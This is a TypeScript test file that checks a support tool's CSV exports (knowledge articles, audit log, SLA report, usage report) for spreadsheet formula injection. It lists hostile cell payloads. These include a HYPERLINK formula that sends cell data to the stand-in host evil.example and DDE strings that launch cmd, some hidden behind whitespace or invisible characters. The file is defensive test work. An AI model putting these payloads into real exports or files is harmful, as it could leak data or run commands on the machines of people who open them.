/**
 * Spreadsheet formula injection (issue #12, finding 5): no export hands a spreadsheet a cell it would run as a
 * formula — knowledge CSV, data guard audit CSV, SLA report CSV, answer usage CSV — whatever the cell's author
 * put in front of the `=`: spaces, full-width forms, tabs, line breaks.
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { AuditService } from '../../../src/background/audit.ts';
import { openDatabase } from '../../../src/background/db/database.ts';
import { demoPacks } from '../../../src/background/demo-seed.ts';

const DEMO_PACKS = demoPacks('127.0.0.1:5178');

import { SettingsService } from '../../../src/background/settings-service.ts';
import {
  type ArticleRecord,
  exportArticles,
  importArticles,
  usageCsv,
} from '../../../src/core/knowledge/index.ts';
import { slaMetReport, toCsv } from '../../../src/core/sla/index.ts';
import { memoryStorage } from '../background/memory-storage.ts';

/**
 * The test's own idea of "dangerous", written independently of the writer: strip what a spreadsheet skips
 * (white space and invisible format characters), then look at the first character.
 */
const FORMULA = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
function runsAsFormula(cell: string): boolean {
  if (cell.startsWith('\t') || cell.startsWith('\r')) return true;
  const visible = cell.replace(/^[\s\u00AD\u200B-\u200F\u2060-\u2064]+/u, '');
  return visible.length > 0 && FORMULA.has(visible[0]!);
}

function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true });
  return parsed.data.flat();
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '   =1+1',
  '＝HYPERLINK("http://evil.example")',
  ' ＋cmd|x',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
  '\u200B=1+1',
];

const hostileArticle = (index: number, cell: string): ArticleRecord => ({
  id: `a${index}`,
  title: cell,
  body: cell,
  tags: ['refund'],
  folder: cell,
});

describe('CSV exports neutralise formula cells', () => {
  it('knowledge export: hostile titles, bodies and folders are escaped and still import back unchanged', async () => {
    const articles = HOSTILE.map((cell, index) => hostileArticle(index, cell));
    const csv = exportArticles(articles, 'csv');
    const dangerous = cellsOf(csv).filter(runsAsFormula);
    expect(dangerous).toEqual([]);
    // The importer normalises (trims titles…); CSV must give back what JSONL gives back.
    const viaJsonl = await importArticles(exportArticles(articles, 'jsonl'));
    const viaCsv = await importArticles(csv, { fileName: 'export.csv' });
    expect(viaCsv.ok && viaCsv.articles).toEqual(viaJsonl.ok && viaJsonl.articles);
  });

  it('audit export: hostile site, ticket, agent name and override reason are escaped', async () => {
    const local = memoryStorage();
    const settings = new SettingsService({ local, session: memoryStorage(), readManaged: async () => ({}) });
    for (const pack of DEMO_PACKS) await settings.importClientPack(pack);
    await settings.write('agent', 'agent.name', ' ＝HYPERLINK("http://evil.example")');
    const audit = new AuditService(openDatabase({ name: 'csv-injection-audit' }), settings, local);
    for (const cell of HOSTILE) {
      await audit.record('northwind', {
        site: cell,
        ticketId: cell,
        reason: cell,
        entries: [
          {
            action: 'overridden',
            type: 'EMAIL_ADDRESS',
            score: 0.9,
            detector: 'email',
            length: 5,
            value: 'a@b.c',
          },
        ],
      });
    }
    const { csv } = await audit.query({ clientId: 'northwind' });
    expect(cellsOf(csv).filter(runsAsFormula)).toEqual([]);
  });

  it('SLA report export: hostile client names are escaped, negative figures stay numbers', () => {
    const clock = { metric: 'first_reply', state: 'met', completedAt: Date.parse('2026-03-02T10:00:00Z') };
    const rows = slaMetReport(HOSTILE.map((client) => ({ client, timeZone: 'UTC', clock: clock as never })));
    const csv = toCsv(
      rows.map((row) => ({ ...row, delta: -3 })),
      ['client', 'metric', 'day', 'met', 'total', 'metPercent', 'delta'],
    );
    // Only our own figure -3 (a number, one per row) may start with a minus.
    expect(cellsOf(csv).filter(runsAsFormula)).toEqual(rows.map(() => '-3'));
  });

  it('answer usage export: hostile client and article titles are escaped', () => {
    const csv = usageCsv(
      '=HYPERLINK("http://evil.example")',
      HOSTILE.map((title, index) => ({
        id: `+${index}`,
        title,
        usage: { shown: 1, inserted: 0, edited: 0, sent: 0 },
      })) as never,
    );
    expect(cellsOf(csv).filter(runsAsFormula)).toEqual([]);
  });
});

/** Prefixes a spreadsheet skips, then a formula character, then anything. */
const hostileCell = fc
  .tuple(
    fc.array(fc.constantFrom(' ', '\u3000', '\u00A0', '\u200B', '\n', '\t', '\r', '\uFEFF', '\u2060'), {
      maxLength: 4,
    }),
    fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'),
    fc.string({ maxLength: 12 }),
    fc.constantFrom('', "'", "''"),
  )
  .map(([prefix, start, rest, quotes]) => `${quotes}${prefix.join('')}${start}${rest}`);

describe('property: no exported cell, read back, starts like a formula', () => {
  it('holds for the knowledge export (and it still round-trips)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostileCell, { minLength: 1, maxLength: 4 }), async (cells) => {
        const articles = cells.map((cell, index) => ({
          id: `a${index}`,
          title: `${cell}x`,
          body: `${cell}y`,
          tags: [],
          folder: `${cell}z`,
        }));
        const csv = exportArticles(articles, 'csv');
        expect(cellsOf(csv).filter(runsAsFormula)).toEqual([]);
        const viaJsonl = await importArticles(exportArticles(articles, 'jsonl'));
        const viaCsv = await importArticles(csv, { fileName: 'export.csv' });
        expect(viaCsv.ok && viaCsv.articles).toEqual(viaJsonl.ok && viaJsonl.articles);
      }),
      { numRuns: 300 },
    );
  });

  it('holds for the report and audit writer', () => {
    fc.assert(
      fc.property(fc.array(hostileCell, { minLength: 1, maxLength: 4 }), (cells) => {
        const csv = toCsv(
          cells.map((client) => ({ client, total: 1 })),
          ['client', 'total'],
        );
        expect(cellsOf(csv).filter(runsAsFormula)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
